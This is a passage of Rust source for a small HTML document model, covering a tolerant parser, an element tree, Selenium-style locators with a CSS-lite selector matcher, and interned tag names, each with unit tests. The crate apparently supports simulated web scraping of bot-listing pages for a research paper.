    /// The locator itself is invalid (bad CSS-lite syntax).
    InvalidLocator {
        /// What was wrong.
        reason: String,
    },
}

impl fmt::Display for LocateError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LocateError::NoSuchElement { locator } => {
                write!(f, "no such element: {locator}")
            }
            LocateError::InvalidLocator { reason } => write!(f, "invalid locator: {reason}"),
        }
    }
}

impl std::error::Error for LocateError {}

/// A locator strategy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Locator {
    /// By `id` attribute.
    Id(String),
    /// By a single class name.
    ClassName(String),
    /// By tag name.
    TagName(String),
    /// By exact attribute value.
    Attr {
        /// Attribute name.
        name: String,
        /// Required value.
        value: String,
    },
    /// `<a>` whose normalized text equals this string.
    LinkText(String),
    /// `<a>` whose normalized text contains this string.
    PartialLinkText(String),
    /// CSS-lite selector: compound steps `tag.class#id[attr=value]`,
    /// combined with descendant (space) or child (`>`) combinators.
    Css(String),
}

impl fmt::Display for Locator {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Locator::Id(v) => write!(f, "id={v}"),
            Locator::ClassName(v) => write!(f, "class={v}"),
            Locator::TagName(v) => write!(f, "tag={v}"),
            Locator::Attr { name, value } => write!(f, "[{name}={value}]"),
            Locator::LinkText(v) => write!(f, "link-text={v:?}"),
            Locator::PartialLinkText(v) => write!(f, "partial-link-text={v:?}"),
            Locator::Css(v) => write!(f, "css={v}"),
        }
    }
}

/// One compound step of a CSS-lite selector.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct CssStep {
    tag: Option<String>,
    id: Option<String>,
    classes: Vec<String>,
    attrs: Vec<(String, Option<String>)>,
    /// Whether the *next* step must be a direct child.
    child_combinator: bool,
}

impl CssStep {
    fn matches(&self, node: &Node) -> bool {
        let Some(tag) = node.tag() else { return false };
        if let Some(want) = &self.tag {
            if want != tag {
                return false;
            }
        }
        if let Some(want) = &self.id {
            if node.id() != Some(want.as_str()) {
                return false;
            }
        }
        for class in &self.classes {
            if !node.has_class(class) {
                return false;
            }
        }
        for (name, value) in &self.attrs {
            match (node.attr(name), value) {
                (Some(actual), Some(want)) if actual == want => {}
                (Some(_), None) => {}
                _ => return false,
            }
        }
        true
    }
}

fn parse_css(selector: &str) -> Result<Vec<CssStep>, LocateError> {
    let invalid = |reason: String| LocateError::InvalidLocator {
        reason: format!("{reason} in {selector:?}"),
    };
    let mut steps: Vec<CssStep> = Vec::new();
    for token in selector.split_whitespace() {
        if token == ">" {
            if let Some(last) = steps.last_mut() {
                last.child_combinator = true;
                continue;
            }
            return Err(invalid("leading '>'".into()));
        }
        // Inline `a>b` form: split on '>' inside the token.
        let parts: Vec<&str> = token.split('>').collect();
        if parts.len() > 1 {
            for (i, part) in parts.iter().enumerate() {
                if part.is_empty() {
                    return Err(invalid("empty step around '>'".into()));
                }
                let mut s = parse_compound(part).map_err(invalid)?;
                if i < parts.len() - 1 {
                    s.child_combinator = true;
                }
                steps.push(s);
            }
            continue;
        }
        steps.push(parse_compound(token).map_err(invalid)?);
    }
    if steps.is_empty() {
        return Err(invalid("empty selector".into()));
    }
    Ok(steps)
}

fn parse_compound(token: &str) -> Result<CssStep, String> {
    let mut step = CssStep::default();
    let bytes = token.as_bytes();
    let mut i = 0;
    // Leading tag name.
    let start = i;
    while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'-') {
        i += 1;
    }
    if i > start {
        step.tag = Some(token[start..i].to_ascii_lowercase());
    } else if i < bytes.len() && bytes[i] == b'*' {
        i += 1;
    }
    while i < bytes.len() {
        match bytes[i] {
            b'.' => {
                i += 1;
                let start = i;
                while i < bytes.len()
                    && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'-' || bytes[i] == b'_')
                {
                    i += 1;
                }
                if i == start {
                    return Err("empty class".into());
                }
                step.classes.push(token[start..i].to_string());
            }
            b'#' => {
                i += 1;
                let start = i;
                while i < bytes.len()
                    && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'-' || bytes[i] == b'_')
                {
                    i += 1;
                }
                if i == start {
                    return Err("empty id".into());
                }
                step.id = Some(token[start..i].to_string());
            }
            b'[' => {
                let close = token[i..].find(']').ok_or("unclosed '['")? + i;
                let body = &token[i + 1..close];
                match body.split_once('=') {
                    Some((k, v)) => step.attrs.push((
                        k.to_ascii_lowercase(),
                        Some(v.trim_matches('"').to_string()),
                    )),
                    None => step.attrs.push((body.to_ascii_lowercase(), None)),
                }
                i = close + 1;
            }
            _ => return Err(format!("unexpected character {:?}", bytes[i] as char)),
        }
    }
    Ok(step)
}

impl Locator {
    /// Shorthand constructors.
    pub fn id(v: &str) -> Locator {
        Locator::Id(v.to_string())
    }
    /// Locate by class name.
    pub fn class(v: &str) -> Locator {
        Locator::ClassName(v.to_string())
    }
    /// Locate by tag name.
    pub fn tag(v: &str) -> Locator {
        Locator::TagName(v.to_string())
    }
    /// Locate by CSS-lite selector.
    pub fn css(v: &str) -> Locator {
        Locator::Css(v.to_string())
    }

    /// All matching elements in document order.
    pub fn find_all<'a>(&self, doc: &'a Document) -> Result<Vec<&'a Node>, LocateError> {
        match self {
            Locator::Id(id) => Ok(filter_elements(doc, |n| n.id() == Some(id.as_str()))),
            Locator::ClassName(c) => Ok(filter_elements(doc, |n| n.has_class(c))),
            Locator::TagName(t) => {
                // Stored tags are lowercase; a case-insensitive compare
                // avoids lowercasing the query per call.
                Ok(filter_elements(doc, |n| {
                    n.tag().is_some_and(|tag| tag.eq_ignore_ascii_case(t))
                }))
            }
            Locator::Attr { name, value } => Ok(filter_elements(doc, |n| {
                n.attr(name) == Some(value.as_str())
            })),
            Locator::LinkText(text) => Ok(filter_elements(doc, |n| {
                n.tag() == Some("a") && n.text_content() == *text
            })),
            Locator::PartialLinkText(text) => Ok(filter_elements(doc, |n| {
                n.tag() == Some("a") && n.text_content().contains(text.as_str())
            })),
            Locator::Css(selector) => {
                let steps = parse_css(selector)?;
                let mut out: Vec<&'a Node> = Vec::new();
                select(&doc.root, &steps, &mut out);
                Ok(out)
            }
        }
    }

    /// First matching element, or `NoSuchElement`.
    pub fn find<'a>(&self, doc: &'a Document) -> Result<&'a Node, LocateError> {
        self.find_all(doc)?
            .into_iter()
            .next()
            .ok_or_else(|| LocateError::NoSuchElement {
                locator: self.to_string(),
            })
    }
}

fn filter_elements(doc: &Document, pred: impl Fn(&Node) -> bool) -> Vec<&Node> {
    doc.elements().into_iter().filter(|n| pred(n)).collect()
}

/// Recursive CSS-lite matcher.
///
/// `steps` is the full selector; we try to match it starting at `node` or at
/// any descendant. Matches are appended to `out` in document order; duplicate
/// hits are avoided by pointer identity.
fn select<'a>(node: &'a Node, steps: &[CssStep], out: &mut Vec<&'a Node>) {
    match_from(node, steps, out);
    for child in node.children() {
        select(child, steps, out);
    }
}

/// Try to match `steps` with `node` as the first step's element.
fn match_from<'a>(node: &'a Node, steps: &[CssStep], out: &mut Vec<&'a Node>) {
    let Some((first, rest)) = steps.split_first() else {
        return;
    };
    if !first.matches(node) {
        return;
    }
    if rest.is_empty() {
        if !out.iter().any(|n| std::ptr::eq(*n, node)) {
            out.push(node);
        }
        return;
    }
    if first.child_combinator {
        for child in node.children() {
            match_from(child, rest, out);
        }
    } else {
        for child in node.children() {
            descend(child, rest, out);
        }
    }
}

/// Descendant search: try `steps` at `node` and at every descendant.
fn descend<'a>(node: &'a Node, steps: &[CssStep], out: &mut Vec<&'a Node>) {
    match_from(node, steps, out);
    for child in node.children() {
        descend(child, steps, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::el;

    fn sample() -> Document {
        Document::new(
            el("html")
                .child(
                    el("body").child(
                        el("div")
                            .id("list")
                            .class("bots")
                            .child(
                                el("div")
                                    .class("bot-card")
                                    .attr("data-bot-id", "1")
                                    .child(el("a").attr("href", "/bot/1").text("FunBot"))
                                    .child(el("span").class("votes").text("876000")),
                            )
                            .child(
                                el("div")
                                    .class("bot-card")
                                    .class("promoted")
                                    .attr("data-bot-id", "2")
                                    .child(el("a").attr("href", "/bot/2").text("ModBot Deluxe"))
                                    .child(el("span").class("votes").text("6")),
                            ),
                    ),
                )
                .build(),
        )
    }

    #[test]
    fn by_id() {
        let doc = sample();
        let n = Locator::id("list").find(&doc).unwrap();
        assert!(n.has_class("bots"));
        assert!(matches!(
            Locator::id("missing").find(&doc),
            Err(LocateError::NoSuchElement { .. })
        ));
    }

    #[test]
    fn by_class_and_tag() {
        let doc = sample();
        assert_eq!(Locator::class("bot-card").find_all(&doc).unwrap().len(), 2);
        assert_eq!(Locator::tag("a").find_all(&doc).unwrap().len(), 2);
        assert_eq!(Locator::tag("A").find_all(&doc).unwrap().len(), 2);
    }

    #[test]
    fn by_attr() {
        let doc = sample();
        let n = Locator::Attr {
            name: "data-bot-id".into(),
            value: "2".into(),
        }
        .find(&doc)
        .unwrap();
        assert!(n.has_class("promoted"));
    }

    #[test]
    fn by_link_text() {
        let doc = sample();
        let n = Locator::LinkText("FunBot".into()).find(&doc).unwrap();
        assert_eq!(n.attr("href"), Some("/bot/1"));
        let n = Locator::PartialLinkText("Deluxe".into())
            .find(&doc)
            .unwrap();
        assert_eq!(n.attr("href"), Some("/bot/2"));
        assert!(Locator::LinkText("funbot".into()).find(&doc).is_err());
    }

    #[test]
    fn css_compound() {
        let doc = sample();
        let hits = Locator::css("div.bot-card.promoted")
            .find_all(&doc)
            .unwrap();
        assert_eq!(hits.len(), 1);
        let hits = Locator::css("div#list").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 1);
        let hits = Locator::css("[data-bot-id=1]").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 1);
        let hits = Locator::css("[data-bot-id]").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 2);
    }

    #[test]
    fn css_descendant_and_child() {
        let doc = sample();
        let hits = Locator::css("div.bot-card a").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 2);
        let hits = Locator::css("body > div").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 1, "only #list is a direct child of body");
        let hits = Locator::css("body>div").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 1, "inline '>' form");
        // span.votes is not a direct child of #list
        let hits = Locator::css("div#list > span.votes")
            .find_all(&doc)
            .unwrap();
        assert!(hits.is_empty());
        let hits = Locator::css("div#list span.votes").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 2);
    }

    #[test]
    fn css_no_duplicates_on_nested_match() {
        // <div><div><p/></div></div> — "div p" must return p once.
        let doc = Document::new(el("div").child(el("div").child(el("p"))).build());
        let hits = Locator::css("div p").find_all(&doc).unwrap();
        assert_eq!(hits.len(), 1);
    }

    #[test]
    fn css_invalid_selectors() {
        let doc = sample();
        assert!(matches!(
            Locator::css("").find_all(&doc),
            Err(LocateError::InvalidLocator { .. })
        ));
        assert!(matches!(
            Locator::css("div..x").find_all(&doc),
            Err(LocateError::InvalidLocator { .. })
        ));
        assert!(matches!(
            Locator::css("> div").find_all(&doc),
            Err(LocateError::InvalidLocator { .. })
        ));
        assert!(matches!(
            Locator::css("div[unclosed").find_all(&doc),
            Err(LocateError::InvalidLocator { .. })
        ));
    }

    #[test]
    fn document_order_is_preserved() {
        let doc = sample();
        let hits = Locator::css("span.votes").find_all(&doc).unwrap();
        let texts: Vec<String> = hits.iter().map(|n| n.text_content()).collect();
        assert_eq!(texts, vec!["876000", "6"]);
    }
}
