//! A tolerant parser for the HTML subset the simulated sites emit.
//!
//! Real-world listing pages are messy; the paper's scraper had to cope with
//! structure drift. This parser is therefore forgiving: unknown entities pass
//! through, unmatched closing tags are dropped, unclosed elements are closed
//! at end-of-input, and stray `<` characters are treated as text. It only
//! *errors* on input that cannot be a page at all.

use crate::atom::{Atom, AtomInterner};
use crate::node::{Document, Node};
use crate::render::unescape;
use std::collections::BTreeMap;
use std::fmt;

/// Parse failure (rare by design — the parser is tolerant).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// What went wrong.
    pub reason: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "html parse error: {}", self.reason)
    }
}

impl std::error::Error for ParseError {}

/// Tags that never have children (must match the renderer's list).
const VOID_TAGS: &[&str] = &["br", "hr", "img", "input", "link", "meta"];

/// Parse a full page. Leading `<!DOCTYPE ...>` is skipped; if the input has
/// multiple top-level nodes they are wrapped in a synthetic `<html>` root.
pub fn parse_document(input: &str) -> Result<Document, ParseError> {
    let nodes = parse_fragment(input)?;
    let mut elements: Vec<Node> = nodes.into_iter().filter(|n| !is_blank_text(n)).collect();
    if !elements.iter().any(|n| n.tag().is_some()) {
        return Err(ParseError {
            reason: "no elements in input".into(),
        });
    }
    let root = if elements.len() == 1 && elements[0].tag().is_some() {
        elements.remove(0)
    } else {
        Node::Element {
            tag: Atom::new("html"),
            attrs: BTreeMap::new(),
            children: elements,
        }
    };
    Ok(Document::new(root))
}

fn is_blank_text(n: &Node) -> bool {
    matches!(n, Node::Text(t) if t.trim().is_empty())
}

/// An open element under construction: tag, attributes, children so far.
type Frame = (Atom, BTreeMap<Atom, String>, Vec<Node>);

/// Parse a fragment into a list of top-level nodes.
pub fn parse_fragment(input: &str) -> Result<Vec<Node>, ParseError> {
    let bytes = input.as_bytes();
    let mut pos = 0usize;
    // One name interner per parse: repeated tag/attribute names resolve to
    // shared atoms instead of fresh lowercased strings per node.
    let mut names = AtomInterner::new();
    // Stack of open elements; a sentinel frame collects top-level nodes.
    let mut stack: Vec<Frame> = vec![(Atom::empty(), BTreeMap::new(), Vec::new())];

    while pos < bytes.len() {
        if bytes[pos] == b'<' {
            if input[pos..].starts_with("<!--") {
                // Comment: skip to -->
                match input[pos..].find("-->") {
                    Some(end) => {
                        pos += end + 3;
                        continue;
                    }
                    None => break, // unterminated comment swallows the rest
                }
            }
            if input[pos..].len() >= 2 && (input.as_bytes()[pos + 1] == b'!') {
                // Doctype or other declaration: skip to '>'
                match input[pos..].find('>') {
                    Some(end) => {
                        pos += end + 1;
                        continue;
                    }
                    None => break,
                }
            }
            if let Some(end) = input[pos..].find('>') {
                let inner = &input[pos + 1..pos + end];
                pos += end + 1;
                if let Some(name) = inner.strip_prefix('/') {
                    close_tag(&mut stack, name.trim());
                } else {
                    open_tag(&mut stack, &mut names, inner);
                }
                continue;
            }
            // A stray '<' with no closing '>' — treat the rest as text.
            push_text(&mut stack, &input[pos..]);
            break;
        }
        let next_lt = input[pos..]
            .find('<')
            .map(|i| pos + i)
            .unwrap_or(input.len());
        push_text(&mut stack, &input[pos..next_lt]);
        pos = next_lt;
    }

    // Close anything left open.
    while stack.len() > 1 {
        let (tag, attrs, children) = stack.pop().expect("len > 1");
        let node = Node::Element {
            tag,
            attrs,
            children,
        };
        stack.last_mut().expect("sentinel").2.push(node);
    }
    Ok(stack.pop().expect("sentinel").2)
}

fn push_text(stack: &mut [Frame], raw: &str) {
    if raw.is_empty() {
        return;
    }
    let frame = stack.last_mut().expect("stack non-empty");
    let text = unescape(raw);
    // Merge adjacent text runs so parsing is a normalization fixpoint
    // (render → parse yields the same tree again).
    if let Some(Node::Text(prev)) = frame.2.last_mut() {
        prev.push_str(&text);
    } else {
        frame.2.push(Node::Text(text));
    }
}

fn open_tag(stack: &mut Vec<Frame>, names: &mut AtomInterner, inner: &str) {
    let inner = inner.trim();
    let self_closing = inner.ends_with('/');
    let inner = inner.trim_end_matches('/').trim();
    let (name, rest) = match inner.find(char::is_whitespace) {
        Some(i) => (&inner[..i], &inner[i..]),
        None => (inner, ""),
    };
    if name.is_empty() {
        return; // "<>" — drop it
    }
    let tag = names.atom(name);
    let attrs = parse_attrs(names, rest);
    if self_closing || VOID_TAGS.contains(&tag.as_str()) {
        let node = Node::Element {
            tag,
            attrs,
            children: Vec::new(),
        };
        stack.last_mut().expect("stack non-empty").2.push(node);
    } else {
        stack.push((tag, attrs, Vec::new()));
    }
}

fn close_tag(stack: &mut Vec<Frame>, name: &str) {
    // Stored tags are lowercase, so a case-insensitive compare against the
    // raw close name avoids allocating a lowercased copy.
    let Some(open_idx) = stack
        .iter()
        .rposition(|(tag, _, _)| tag.eq_ignore_ascii_case(name))
    else {
        return; // unmatched close: ignore
    };
    if open_idx == 0 {
        return;
    }
    // Implicitly close anything opened after it (mis-nesting tolerance).
    while stack.len() > open_idx {
        let (tag, attrs, children) = stack.pop().expect("len > open_idx");
        let node = Node::Element {
            tag,
            attrs,
            children,
        };
        stack.last_mut().expect("parent").2.push(node);
    }
}

fn parse_attrs(names: &mut AtomInterner, rest: &str) -> BTreeMap<Atom, String> {
    let mut attrs = BTreeMap::new();
    let bytes = rest.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        // Skip whitespace.
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= bytes.len() {
            break;
        }
        // Attribute name.
        let name_start = i;
        while i < bytes.len() && !bytes[i].is_ascii_whitespace() && bytes[i] != b'=' {
            i += 1;
        }
        let name = names.atom(&rest[name_start..i]);
        if name.is_empty() {
            i += 1;
            continue;
        }
        // Skip whitespace before '='.
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        if i < bytes.len() && bytes[i] == b'=' {
            i += 1;
            while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                i += 1;
            }
            if i < bytes.len() && (bytes[i] == b'"' || bytes[i] == b'\'') {
                let quote = bytes[i];
                i += 1;
                let val_start = i;
                while i < bytes.len() && bytes[i] != quote {
                    i += 1;
                }
                attrs.insert(name, unescape(&rest[val_start..i]));
                i += 1; // past the closing quote
            } else {
                let val_start = i;
                while i < bytes.len() && !bytes[i].is_ascii_whitespace() {
                    i += 1;
                }
                attrs.insert(name, unescape(&rest[val_start..i]));
            }
        } else {
            // Valueless attribute (e.g. `disabled`).
            attrs.insert(name, String::new());
        }
    }
    attrs
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::el;
    use crate::render::{render_document, render_to_string};

    #[test]
    fn parses_simple_page() {
        let doc = parse_document(
            r#"<!DOCTYPE html><html><body><p id="x" class="a b">hi <b>there</b></p></body></html>"#,
        )
        .unwrap();
        assert_eq!(doc.root.tag(), Some("html"));
        let p = doc
            .elements()
            .into_iter()
            .find(|e| e.tag() == Some("p"))
            .unwrap();
        assert_eq!(p.id(), Some("x"));
        assert_eq!(p.classes(), vec!["a", "b"]);
        assert_eq!(p.text_content(), "hi there");
    }

    #[test]
    fn roundtrip_build_render_parse() {
        let original = Document::new(
            el("html")
                .child(el("head").child(el("title").text("T & Co")))
                .child(
                    el("body").child(
                        el("div")
                            .id("main")
                            .class("grid")
                            .child(el("a").attr("href", "/bot/1?x=1&y=2").text("Bot <One>"))
                            .child(el("br"))
                            .child(el("span").text("end")),
                    ),
                )
                .build(),
        );
        let html = render_document(&original);
        let parsed = parse_document(&html).unwrap();
        assert_eq!(parsed, original);
    }

    #[test]
    fn tolerates_unmatched_close() {
        let doc = parse_document("<div><p>text</p></section></div>").unwrap();
        assert_eq!(doc.root.tag(), Some("div"));
        assert_eq!(doc.root.text_content(), "text");
    }

    #[test]
    fn closes_unclosed_elements_at_eof() {
        let doc = parse_document("<div><p>never closed").unwrap();
        assert_eq!(doc.root.tag(), Some("div"));
        assert_eq!(doc.root.children()[0].tag(), Some("p"));
        assert_eq!(doc.root.text_content(), "never closed");
    }

    #[test]
    fn misnesting_closes_inner_first() {
        // <b> is implicitly closed when </div> arrives
        let doc = parse_document("<div><b>bold</div>").unwrap();
        assert_eq!(doc.root.tag(), Some("div"));
        assert_eq!(doc.root.children()[0].tag(), Some("b"));
    }

    #[test]
    fn multiple_roots_get_synthetic_html() {
        let doc = parse_document("<p>a</p><p>b</p>").unwrap();
        assert_eq!(doc.root.tag(), Some("html"));
        assert_eq!(doc.root.children().len(), 2);
    }

    #[test]
    fn comments_are_skipped() {
        let doc = parse_document("<div><!-- hidden --><span>visible</span></div>").unwrap();
        assert_eq!(doc.root.text_content(), "visible");
        assert_eq!(doc.root.element_count(), 2);
    }

    #[test]
    fn empty_input_is_an_error() {
        assert!(parse_document("").is_err());
        assert!(parse_document("   \n  ").is_err());
        assert!(parse_document("just text").is_err());
    }

    #[test]
    fn attribute_forms() {
        let doc =
            parse_document(r#"<input type="text" value='single' disabled data-x=raw>"#).unwrap();
        let input = doc.root.clone();
        assert_eq!(input.attr("type"), Some("text"));
        assert_eq!(input.attr("value"), Some("single"));
        assert_eq!(input.attr("disabled"), Some(""));
        assert_eq!(input.attr("data-x"), Some("raw"));
    }

    #[test]
    fn self_closing_syntax() {
        let doc = parse_document("<div><widget/><span>x</span></div>").unwrap();
        assert_eq!(doc.root.children().len(), 2);
        assert_eq!(doc.root.children()[0].tag(), Some("widget"));
    }

    #[test]
    fn entities_unescape_in_text_and_attrs() {
        let doc =
            parse_document(r#"<a title="x &quot;y&quot;">1 &lt; 2 &amp; 3 &gt; 2</a>"#).unwrap();
        assert_eq!(doc.root.attr("title"), Some("x \"y\""));
        assert_eq!(doc.root.text_content(), "1 < 2 & 3 > 2");
    }

    #[test]
    fn void_elements_do_not_nest() {
        let doc = parse_document("<div><br><span>after</span></div>").unwrap();
        // <span> must be a sibling of <br>, not its child
        assert_eq!(doc.root.children().len(), 2);
        assert_eq!(
            render_to_string(&doc.root),
            "<div><br><span>after</span></div>"
        );
    }
}
