//! The element tree.

use crate::atom::Atom;
use std::collections::BTreeMap;

/// A node in the document tree: an element or a text run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Node {
    /// An element like `<a href="...">...</a>`.
    Element {
        /// Interned lowercase tag name.
        tag: Atom,
        /// Attributes with interned lowercase keys. `class` is stored here
        /// too; [`Node::classes`] splits it on whitespace.
        attrs: BTreeMap<Atom, String>,
        /// Child nodes in document order.
        children: Vec<Node>,
    },
    /// A text run (unescaped).
    Text(String),
}

impl Node {
    /// Create a bare element.
    pub fn element(tag: &str) -> Node {
        Node::Element {
            tag: Atom::new(tag),
            attrs: BTreeMap::new(),
            children: Vec::new(),
        }
    }

    /// Create a text node.
    pub fn text(t: impl Into<String>) -> Node {
        Node::Text(t.into())
    }

    /// Tag name, or `None` for text nodes.
    pub fn tag(&self) -> Option<&str> {
        match self {
            Node::Element { tag, .. } => Some(tag.as_str()),
            Node::Text(_) => None,
        }
    }

    /// Attribute lookup (element nodes only; key is case-insensitive).
    /// Zero-allocation for already-lowercase keys — the common case — via
    /// the atom map's `Borrow<str>` lookup.
    pub fn attr(&self, key: &str) -> Option<&str> {
        let Node::Element { attrs, .. } = self else {
            return None;
        };
        if key.bytes().any(|b| b.is_ascii_uppercase()) {
            attrs
                .get(key.to_ascii_lowercase().as_str())
                .map(String::as_str)
        } else {
            attrs.get(key).map(String::as_str)
        }
    }

    /// The element's `id` attribute.
    pub fn id(&self) -> Option<&str> {
        self.attr("id")
    }

    /// Whitespace-separated class list.
    pub fn classes(&self) -> Vec<&str> {
        self.attr("class")
            .map(|c| c.split_whitespace().collect())
            .unwrap_or_default()
    }

    /// Whether the element carries class `name`.
    pub fn has_class(&self, name: &str) -> bool {
        self.classes().contains(&name)
    }

    /// Children slice (empty for text nodes).
    pub fn children(&self) -> &[Node] {
        match self {
            Node::Element { children, .. } => children,
            Node::Text(_) => &[],
        }
    }

    /// Concatenated text content of the subtree, with runs separated by a
    /// single space and trimmed — matches what Selenium's `.text` yields for
    /// simple markup.
    pub fn text_content(&self) -> String {
        let mut out = String::new();
        self.collect_text(&mut out);
        out.split_whitespace().collect::<Vec<_>>().join(" ")
    }

    fn collect_text(&self, out: &mut String) {
        match self {
            Node::Text(t) => {
                out.push(' ');
                out.push_str(t);
            }
            Node::Element { children, .. } => {
                for c in children {
                    c.collect_text(out);
                }
            }
        }
    }

    /// Depth-first pre-order walk over all element nodes in the subtree,
    /// including `self`.
    pub fn walk_elements<'a>(&'a self, visit: &mut dyn FnMut(&'a Node)) {
        if matches!(self, Node::Element { .. }) {
            visit(self);
        }
        for c in self.children() {
            c.walk_elements(visit);
        }
    }

    /// Number of element nodes in the subtree (including self).
    pub fn element_count(&self) -> usize {
        let mut n = 0;
        self.walk_elements(&mut |_| n += 1);
        n
    }
}

/// A whole page: a root element (conventionally `<html>`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Document {
    /// The root node.
    pub root: Node,
}

impl Document {
    /// Wrap a root node as a document.
    pub fn new(root: Node) -> Document {
        Document { root }
    }

    /// All element nodes in document order.
    pub fn elements(&self) -> Vec<&Node> {
        let mut out = Vec::new();
        self.root.walk_elements(&mut |n| out.push(n));
        out
    }

    /// Page title, if a `<title>` element exists.
    pub fn title(&self) -> Option<String> {
        self.elements()
            .into_iter()
            .find(|n| n.tag() == Some("title"))
            .map(|n| n.text_content())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::el;

    #[test]
    fn attr_and_classes() {
        let n = el("div")
            .attr("ID", "main")
            .attr("class", "row  wide")
            .build();
        assert_eq!(n.id(), Some("main"));
        assert_eq!(n.classes(), vec!["row", "wide"]);
        assert!(n.has_class("wide"));
        assert!(!n.has_class("narrow"));
        assert_eq!(Node::text("x").attr("id"), None);
    }

    #[test]
    fn text_content_flattens_and_normalizes() {
        let n = el("p")
            .text("Hello ")
            .child(el("b").text("brave"))
            .text("  world")
            .build();
        assert_eq!(n.text_content(), "Hello brave world");
    }

    #[test]
    fn walk_counts_elements() {
        let n = el("div")
            .child(el("ul").child(el("li")).child(el("li")))
            .build();
        assert_eq!(n.element_count(), 4);
    }

    #[test]
    fn document_title() {
        let doc = Document::new(
            el("html")
                .child(el("head").child(el("title").text("Bot List — page 3")))
                .child(el("body"))
                .build(),
        );
        assert_eq!(doc.title().as_deref(), Some("Bot List — page 3"));
        let untitled = Document::new(el("html").build());
        assert_eq!(untitled.title(), None);
    }

    #[test]
    fn elements_in_document_order() {
        let doc = Document::new(
            el("html")
                .child(
                    el("body")
                        .child(el("a").attr("id", "first"))
                        .child(el("a").attr("id", "second")),
                )
                .build(),
        );
        let ids: Vec<_> = doc.elements().iter().filter_map(|e| e.id()).collect();
        assert_eq!(ids, vec!["first", "second"]);
    }
}
