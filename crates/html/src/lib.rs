//! # htmlsim — a small HTML document model with Selenium-style locators
//!
//! The paper's data-collection stage drives Selenium against top.gg and bot
//! websites, finding elements by *locators* and coping with
//! `NoSuchElementException` when pages change shape. This crate provides the
//! same vocabulary for the simulation:
//!
//! * [`node`] — an element tree ([`Node`], [`Document`]) with attributes,
//!   classes, and text content;
//! * [`build`] — an ergonomic builder the simulated sites use to emit pages;
//! * [`render`] — serialization to HTML text (what actually travels over the
//!   `netsim` fabric);
//! * [`parse`] — a tolerant parser for the subset we emit (plus enough slack
//!   to survive the "varying page structures" the paper complains about);
//! * [`locate`] — element locators: by id, class name, tag name, attribute,
//!   link text, and a CSS-lite selector language with descendant combinators.
//!
//! The crawler never touches a site's internal state: it sees rendered HTML
//! bytes, parses them, and extracts attributes with locators — the same
//! arms-length relationship the real scraper had.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod atom;
pub mod build;
pub mod locate;
pub mod node;
pub mod parse;
pub mod render;

pub use atom::{Atom, AtomInterner};
pub use build::el;
pub use locate::{LocateError, Locator};
pub use node::{Document, Node};
pub use parse::{parse_document, ParseError};
