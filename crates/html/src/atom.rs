//! Interned tag/attribute names.
//!
//! Every element node used to carry a freshly allocated lowercased `String`
//! for its tag and each attribute key, and every case-insensitive lookup
//! allocated another one. At crawl scale (tens of thousands of pages, each
//! with hundreds of nodes naming the same dozen tags) that is millions of
//! identical allocations. [`Atom`] fixes the cost three ways:
//!
//! 1. a static table of well-known lowercase names ([`WELL_KNOWN`]) that
//!    resolve to `&'static str` — zero allocation, ever;
//! 2. a per-parse [`AtomInterner`] (backed by [`matchkit::Interner`]) that
//!    allocates each *unknown* name once per document and hands out shared
//!    [`Arc<str>`] clones afterwards;
//! 3. content-based `Borrow<str>`/`Ord`/`Hash`, so attribute maps keyed by
//!    `Atom` are queried with a plain `&str` — no temporary key allocation
//!    on lookup.

use std::borrow::Borrow;
use std::fmt;
use std::hash::{Hash, Hasher};
use std::sync::Arc;

/// Well-known lowercase tag and attribute names, sorted (binary-searched).
/// Covers every name the simulated sites emit on their hot paths; anything
/// else falls through to the interner.
static WELL_KNOWN: &[&str] = &[
    "a",
    "alt",
    "article",
    "b",
    "body",
    "br",
    "button",
    "class",
    "code",
    "content",
    "data-app-id",
    "data-bot-id",
    "data-challenge-id",
    "data-guilds",
    "data-i",
    "data-kind",
    "data-owner",
    "data-slug",
    "data-votes",
    "data-x",
    "disabled",
    "div",
    "em",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "head",
    "header",
    "hr",
    "href",
    "html",
    "i",
    "id",
    "img",
    "input",
    "li",
    "link",
    "meta",
    "name",
    "nav",
    "p",
    "pre",
    "rel",
    "script",
    "section",
    "span",
    "src",
    "strong",
    "style",
    "table",
    "tbody",
    "td",
    "th",
    "title",
    "tr",
    "type",
    "u",
    "ul",
    "value",
];

#[derive(Clone)]
enum Repr {
    Static(&'static str),
    Owned(Arc<str>),
}

/// An interned, always-lowercase tag or attribute name. Cheap to clone
/// (static pointer or `Arc` bump); compares, orders, and hashes by string
/// content, so a `BTreeMap<Atom, _>` behaves exactly like the
/// `BTreeMap<String, _>` it replaced — including lookup by plain `&str`.
#[derive(Clone)]
pub struct Atom(Repr);

impl Atom {
    /// Intern `raw` without a per-document interner: lowercases (only when
    /// needed), resolves well-known names statically, and otherwise
    /// allocates one `Arc`. Builder-style call sites use this; the parser
    /// goes through [`AtomInterner`] to also deduplicate unknown names.
    pub fn new(raw: &str) -> Atom {
